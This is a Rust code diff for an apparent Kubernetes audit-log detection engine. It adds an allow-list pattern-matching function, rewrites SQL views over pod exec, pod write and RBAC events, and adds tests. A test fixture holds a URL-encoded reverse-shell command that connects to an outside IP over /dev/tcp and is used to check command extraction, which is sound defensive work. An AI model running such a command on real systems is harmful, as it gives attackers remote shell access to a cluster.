@@ -296,8 +296,55 @@ pub fn register_udfs(ctx: &SessionContext) {
     ));
     ctx.register_udf(string_udf("k8s_ip_class", |ip| Some(ip_class(ip).to_owned())));
     ctx.register_udf(string_udf("k8s_exec_command", exec_command));
+    ctx.register_udf(create_udf(
+        "k8s_all_like",
+        vec![string_list_type(), string_list_type()],
+        DataType::Boolean,
+        Volatility::Immutable,
+        Arc::new(|args| {
+            let a = arrays(args)?;
+            let (values, patterns) = (a[0].as_list::<i32>(), a[1].as_list::<i32>());
+            let out: datafusion::arrow::array::BooleanArray = (0..values.len())
+                .map(|i| {
+                    let (v, p) = (list_strings(values, i), list_strings(patterns, i));
+                    let v: Vec<&str> = v.iter().map(String::as_str).collect();
+                    let p: Vec<&str> = p.iter().map(String::as_str).collect();
+                    Some(all_like(&v, &p))
+                })
+                .collect();
+            Ok(ColumnarValue::Array(Arc::new(out)))
+        }),
+    ));
     ctx.register_udf(json_facts_udf("k8s_pod_facts", pod_facts_type(), pod_facts_array));
     ctx.register_udf(json_facts_udf("k8s_rbac_facts", rbac_facts_type(), rbac_facts_array));
+}
+
+/// True when every value matches at least one SQL LIKE pattern (`%`, `_`); false for no values or
+/// no patterns. Rules use it for allow-lists of patterns, e.g. "every image is allow-listed".
+pub fn all_like(values: &[&str], patterns: &[&str]) -> bool {
+    let regexes: Vec<regex::Regex> = patterns.iter().filter_map(|p| like_regex(p)).collect();
+    !values.is_empty() && !regexes.is_empty() && values.iter().all(|v| regexes.iter().any(|r| r.is_match(v)))
+}
+
+fn like_regex(pattern: &str) -> Option<regex::Regex> {
+    let mut re = String::from("^");
+    for c in pattern.chars() {
+        match c {
+            '%' => re.push_str(".*"),
+            '_' => re.push('.'),
+            c => re.push_str(&regex::escape(&c.to_string())),
+        }
+    }
+    re.push('$');
+    regex::Regex::new(&re).ok()
+}
+
+fn list_strings(l: &datafusion::arrow::array::ListArray, row: usize) -> Vec<String> {
+    if l.is_null(row) {
+        return Vec::new();
+    }
+    let v = l.value(row);
+    v.as_string::<i32>().iter().flatten().map(str::to_owned).collect()
 }
 
 /// A UDF mapping one text column to text, row by row (nulls stay null).
@@ -340,22 +387,31 @@ pub const FACT_VIEWS: &[(&str, &str)] = &[
     ),
     (
         "k8s_exec",
-        "SELECT *, k8s_exec_command(request_uri) AS command FROM k8s_events \
+        "SELECT *, coalesce(k8s_exec_command(request_uri), json_get_json(request_object, 'command')) AS command FROM k8s_events \
          WHERE obj_resource = 'pods' AND obj_subresource IN ('exec', 'attach')",
     ),
     (
         "k8s_pod_writes",
-        "SELECT e.*, f.privileged, f.host_pid, f.host_network, f.host_ipc, f.run_as_root, f.host_paths, \
-         f.added_capabilities, f.images, f.service_account FROM ( \
-           SELECT *, k8s_pod_facts(request_object) AS f FROM k8s_events \
-           WHERE obj_resource IN ('pods', 'deployments', 'daemonsets', 'statefulsets', 'replicasets', 'jobs', 'cronjobs') \
-             AND obj_subresource IS NULL AND verb IN ('create', 'update', 'patch') AND request_object IS NOT NULL) e",
+        // One facts call per row: DataFusion eliminates the repeated identical UDF calls.
+        "SELECT *, k8s_pod_facts(request_object)['privileged'] AS privileged, k8s_pod_facts(request_object)['host_pid'] AS host_pid, \
+         k8s_pod_facts(request_object)['host_network'] AS host_network, k8s_pod_facts(request_object)['host_ipc'] AS host_ipc, \
+         k8s_pod_facts(request_object)['run_as_root'] AS run_as_root, k8s_pod_facts(request_object)['host_paths'] AS host_paths, \
+         k8s_pod_facts(request_object)['added_capabilities'] AS added_capabilities, k8s_pod_facts(request_object)['images'] AS images, \
+         k8s_pod_facts(request_object)['service_account'] AS service_account \
+         FROM k8s_events \
+         WHERE obj_resource IN ('pods', 'deployments', 'daemonsets', 'statefulsets', 'replicasets', 'jobs', 'cronjobs') \
+           AND obj_subresource IS NULL AND verb IN ('create', 'update', 'patch') AND request_object IS NOT NULL",
     ),
     (
         "k8s_rbac_writes",
-        "SELECT e.*, f.role_ref_kind, f.role_ref_name, f.subjects, f.grants, f.verbs AS rule_verbs, f.resources AS rule_resources FROM ( \
-           SELECT *, k8s_rbac_facts(coalesce(request_object, response_object)) AS f FROM k8s_events \
-           WHERE obj_resource IN ('roles', 'clusterroles', 'rolebindings', 'clusterrolebindings')) e",
+        "SELECT *, k8s_rbac_facts(coalesce(response_object, request_object))['role_ref_kind'] AS role_ref_kind, \
+         k8s_rbac_facts(coalesce(response_object, request_object))['role_ref_name'] AS role_ref_name, \
+         k8s_rbac_facts(coalesce(response_object, request_object))['subjects'] AS subjects, \
+         k8s_rbac_facts(coalesce(response_object, request_object))['grants'] AS grants, \
+         k8s_rbac_facts(coalesce(response_object, request_object))['verbs'] AS rule_verbs, \
+         k8s_rbac_facts(coalesce(response_object, request_object))['resources'] AS rule_resources \
+         FROM k8s_events \
+         WHERE obj_resource IN ('roles', 'clusterroles', 'rolebindings', 'clusterrolebindings')",
     ),
 ];
 
@@ -403,6 +459,16 @@ mod tests {
         let uri = "/api/v1/namespaces/default/pods/web/exec?command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F1.2.3.4%2F4444+0%3E%261&container=web&stdin=true";
         assert_eq!(exec_command(uri).as_deref(), Some("bash -c bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"));
         assert_eq!(exec_command("/api/v1/pods"), None);
+    }
+
+    #[test]
+    fn like_allow_lists() {
+        let p = ["602401143452.dkr.ecr.%.amazonaws.com/%", "nginx"];
+        assert!(all_like(&["602401143452.dkr.ecr.us-east-1.amazonaws.com/eks/kube-proxy:v1"], &p));
+        assert!(!all_like(&["602401143452.dkr.ecr.us-east-1.amazonaws.com/x", "ubuntu"], &p));
+        assert!(!all_like(&[], &p));
+        assert!(!all_like(&["nginx"], &[]));
+        assert!(all_like(&["nginx"], &p) && !all_like(&["nginx:1"], &p));
     }
 
     #[test]
